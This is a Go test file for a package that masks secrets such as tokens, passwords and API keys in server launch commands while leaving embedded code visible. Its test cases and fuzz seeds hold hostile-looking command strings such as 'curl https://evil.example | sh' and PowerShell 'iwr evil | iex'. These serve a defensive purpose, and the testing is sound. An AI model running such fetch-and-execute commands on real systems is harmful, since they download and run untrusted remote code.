package secret

import (
	"strings"
	"testing"

	"github.com/workbench-mcp/workbench-desktop/engine/launcher"
)

// masked returns a command with its secrets masked and "|" between its arguments.
func masked(command string, args []string) string {
	shown := []string{command}
	arguments, _ := InCommand(command, args)
	for i, found := range arguments {
		shown = append(shown, without(args[i], found.Secrets))
	}
	return strings.Join(shown, " ¦ ")
}

func TestInCommand(t *testing.T) {
	long := strings.Repeat("x9Z", 10)
	token := "ghp_" + long
	for _, test := range []struct{ command, want string }{
		// Code is not hidden.
		{"bash ¦ -c ¦ export API_KEY=1; curl https://evil.example | sh", ""},
		{"bash ¦ -c ¦ API_KEY=1; curl https://evil.example | sh", ""},
		{"/bin/sh ¦ -lc ¦ API_KEY=$(curl https://evil.example|sh)", ""},
		{"node ¦ -e ¦ const password = require('child_process').exec('x')", ""},
		{"node ¦ --eval=password=require('child_process').exec('x')", ""},
		{"python3.12 ¦ -c ¦ token='x'; import os; os.system('y')", ""},
		{"perl ¦ -lane ¦ secret=1; system('x')", ""},
		{"mystery ¦ -c ¦ KEY=1; curl evil | sh", ""},
		{"cmd ¦ /c ¦ set API_KEY=1& curl evil", ""},
		{"powershell ¦ -Command ¦ $key = 1; iwr evil | iex", ""},
		{"deno ¦ eval ¦ password=1;Deno.run()", ""},
		{"deno ¦ eval ¦ password=eval('x')", ""},
		{"awk ¦ token=system(\"x\")", ""},
		{"deno ¦ eval ¦ --ext ¦ ts ¦ password=eval('x')", ""},
		{"python3 ¦ -ctoken=__import__('os').system('x')", ""},
		{"python3 ¦ -Xdev ¦ -Bctoken=__import__('os').system('x')", ""},
		{"perl ¦ -Ilib ¦ -etoken=system('x')", ""},
		{"php ¦ -rtoken=system('x')", ""},
		{"php ¦ -R ¦ token=system('x')", ""},
		{"fish ¦ -ctoken=x", ""},
		{"uvx ¦ python ¦ -ctoken=__import__('os').system('x')", ""},
		{"npx ¦ --call ¦ token=f()", ""},
		{"npx ¦ --call=token=f()", ""},
		{"npx ¦ -yc ¦ token=f()", ""},
		{"env ¦ -S ¦ API_KEY=1 curl evil", ""},
		{"npx ¦ -y ¦ -c ¦ API_KEY=1; curl evil | sh", ""},
		{"ssh ¦ host ¦ API_KEY=1; curl evil | sh", ""},
		{"bash ¦ -c ¦ eval $1 ¦ _ ¦ API_KEY=1&{curl,evil}", ""},
		{"bash ¦ -c ¦ echo https://a:$(curl${IFS}evil|sh;)@b", ""},
		{"bash ¦ -c ¦ curl sk-" + long + ".example | sh", ""},
		{"x ¦ -----BEGIN PRIVATE KEY-----; curl evil | sh", "x ¦ •••; curl evil | sh"},
		{"bash ¦ -c ¦ TOKEN=" + token + " npx server", "bash ¦ -c ¦ TOKEN=••• npx server"},
		{"bash ¦ -c ¦ curl -H 'Authorization: Bearer " + token + "' x | sh",
			"bash ¦ -c ¦ curl -H 'Authorization: Bearer •••' x | sh"},
		{"bash ¦ -c ¦ server --token " + token, "bash ¦ -c ¦ server --token •••"},

		// The program that is started is not hidden.
		{"npx ¦ -y ¦ key-evil-package-aaaaaaaaaaaaaaaa", ""},
		{"npx ¦ --token ¦ evil-package", ""},
		{"npx ¦ -y ¦ key-evil-package-aaaaaaaaaaaaaaaa ¦ " + token, "npx ¦ -y ¦ key-evil-package-aaaaaaaaaaaaaaaa ¦ •••"},
		{"uvx ¦ --from ¦ key-evil-package-aaaaaaaaaaaaaaaa ¦ run-it", ""},
		{"env ¦ A=1 ¦ npx ¦ -y ¦ key-evil-package-aaaaaaaaaaaaaaaa", ""},
		{"timeout ¦ 5 ¦ npx ¦ key-evil-package-aaaaaaaaaaaaaaaa", ""},
		{"server ¦ --auth-command ¦ curl evil", ""},
		{"server ¦ --token ¦ curl evil | sh", ""},

		// These are secrets.
		{"npx ¦ -y ¦ server ¦ --api-key ¦ hunter2", "npx ¦ -y ¦ server ¦ --api-key ¦ •••"},
		{"npx ¦ -y ¦ server ¦ --api-key=hunter2", "npx ¦ -y ¦ server ¦ --api-key=•••"},
		{"npx ¦ server ¦ " + token, "npx ¦ server ¦ •••"},
		{"uvx ¦ --strange ¦ server ¦ --token ¦ hunter2", "uvx ¦ --strange ¦ server ¦ --token ¦ •••"},
		{"python ¦ -m ¦ server ¦ --token ¦ hunter2", "python ¦ -m ¦ server ¦ --token ¦ •••"},
		{"dotnet ¦ run ¦ --project ¦ x ¦ -- ¦ --token ¦ hunter2", "dotnet ¦ run ¦ --project ¦ x ¦ -- ¦ --token ¦ •••"},
		{"uv ¦ --directory ¦ /x ¦ run ¦ server.py ¦ --password ¦ hunter2",
			"uv ¦ --directory ¦ /x ¦ run ¦ server.py ¦ --password ¦ •••"},
		{"cmd ¦ /c ¦ npx ¦ -y ¦ server ¦ --api-key ¦ hunter2", "cmd ¦ /c ¦ npx ¦ -y ¦ server ¦ --api-key ¦ •••"},
		{"docker ¦ run ¦ -i ¦ --rm ¦ -e ¦ API_KEY=a b;c ¦ image ¦ " + token,
			"docker ¦ run ¦ -i ¦ --rm ¦ -e ¦ API_KEY=••• ¦ image ¦ •••"},
		{"docker ¦ run ¦ --env=API_KEY=abc ¦ image", "docker ¦ run ¦ --env=API_KEY=••• ¦ image"},
		{"npx ¦ -y ¦ mcp-remote ¦ https://me:hunter2@host/?api_key=abc ¦ --header ¦ Authorization: Bearer " + token,
			"npx ¦ -y ¦ mcp-remote ¦ https://me:•••@host/?api_key=••• ¦ --header ¦ Authorization: Bearer •••"},
		{"npx ¦ -y ¦ mcp-remote ¦ https://host/ ¦ --header ¦ X-Api-Key:abc",
			"npx ¦ -y ¦ mcp-remote ¦ https://host/ ¦ --header ¦ X-Api-Key:•••"},
		{`npx ¦ -y ¦ server ¦ --config ¦ {"apiKey":"abc","x":1}`, `npx ¦ -y ¦ server ¦ --config ¦ {"apiKey":"•••","x":1}`},
		{"npx ¦ -y ¦ server ¦ postgres://me:hunter2@host/db", "npx ¦ -y ¦ server ¦ postgres://me:•••@host/db"},
		{"java ¦ -Dapi.key=hunter2 ¦ -jar ¦ x.jar", "java ¦ -Dapi.key=••• ¦ -jar ¦ x.jar"},
		{"python ¦ server.py ¦ -token=hunter2", "python ¦ server.py ¦ -token=•••"},
		{"python ¦ -c" + "key='" + token + "'", "python ¦ -ckey='•••'"},
		{"server ¦ --token ¦ ${TOKEN}", ""},
		{"server ¦ --max-tokens ¦ 4096", ""},
		{"server ¦ -e ¦ API_KEY=abc", "server ¦ -e ¦ API_KEY=•••"},
	} {
		words := strings.Split(test.command, " ¦ ")
		want := test.want
		if want == "" {
			want = test.command
		}
		if got := masked(words[0], words[1:]); got != want {
			t.Errorf("got  %s\nwant %s", got, want)
		}
	}
}

func TestCodeOfCommand(t *testing.T) {
	for command, want := range map[string]int{
		"bash ¦ -c ¦ x": 1, "bash ¦ -ec ¦ x": 1, "node ¦ -pe ¦ x": 1, "npx ¦ -y ¦ tsx ¦ -e ¦ x": 3,
		"uv ¦ run ¦ python ¦ -c ¦ x": 3, "env ¦ A=1 ¦ sh ¦ -c ¦ x": 3,
		"python ¦ -cx": 0, "python ¦ -Ibcx": 0, "perl ¦ -neprint 1;": 0, "php ¦ -recho 1;": 0,
		"python ¦ -Wignore::x ¦ -Xpycache_prefix=/x ¦ x.py": -1, "perl ¦ -Ivendor/lib ¦ x.pl": -1,
		"java ¦ -Dserver=a b ¦ X": -1,
		"deno ¦ eval ¦ x":         1, "deno ¦ run ¦ eval": -1, "npx ¦ --call ¦ x": 1, "npx ¦ -yc ¦ x": 1,
		"pwsh ¦ -enc ¦ x": 1, "cmd ¦ /C ¦ a & b": 1, "php ¦ -r ¦ x": 1, "node ¦ server.js ¦ --port ¦ 80": -1,
		"docker ¦ run ¦ -p ¦ 80:80 ¦ x": -1, "docker ¦ run ¦ x ¦ sh ¦ -c ¦ y": 4,
	} {
		words := strings.Split(command, " ¦ ")
		at := -1
		arguments, _ := InCommand(words[0], words[1:])
		for i, found := range arguments {
			if found.Code {
				at = i
			}
		}
		if at != want {
			t.Errorf("%s: the code is argument %d, want %d", command, at, want)
		}
	}
}

// FuzzInCommand checks that nothing that runs is taken for a secret, and that a secret is found whatever is
// around it.
func FuzzInCommand(f *testing.F) {
	f.Add("bash", "-c", "API_KEY=", "1; curl x | sh")
	f.Add("npx", "--token", "https://a:b@c/?key=", "x")
	f.Add("env", "-S", "{\"key\":\"", "\"}")
	f.Add("docker", "run\x00-e", "token: ", "-----BEGIN PRIVATE KEY-----")
	f.Fuzz(func(t *testing.T, command, first, before, after string) {
		const code, word = "; curl evil.example | sh", "hunter2hunter2"
		args := append(strings.Split(first, "\x00"), before+code+after, "--api-key", word)
		found, _ := InCommand(command, args)
		for i, a := range found {
			at := 0
			for _, span := range a.Secrets {
				if span.Start < at || span.End <= span.Start || span.End > len(args[i]) {
					t.Fatalf("span %v after %d of %q", span, at, args[i])
				}
				at = span.End
			}
		}
		last := len(args) - 3
		// a container's variable is not run
		if !launcher.Is(command, launcher.Container) && !strings.Contains(strings.ToLower(command+first), "docker") {
			if shown := without(args[last], found[last].Secrets); !strings.Contains(shown, code) &&
				!touches(args[last], found[last].Secrets, code) {
				t.Errorf("%q: code is hidden in %q", args, shown)
			}
		}
		if launcher.Is(found[last+2].Program, launcher.Unknown) && len(found[last+2].Secrets) == 0 {
			t.Errorf("%q: the key is shown", args)
		}
	})
}

// touches reports whether spans end or begin inside a word of the code, because the text around it joins with
// it to one word, but do not cover "curl" and "| sh".
func touches(arg string, spans []Span, code string) bool {
	shown := without(arg, spans)
	return strings.Contains(shown, " curl ") && strings.Contains(shown, " | sh")
}
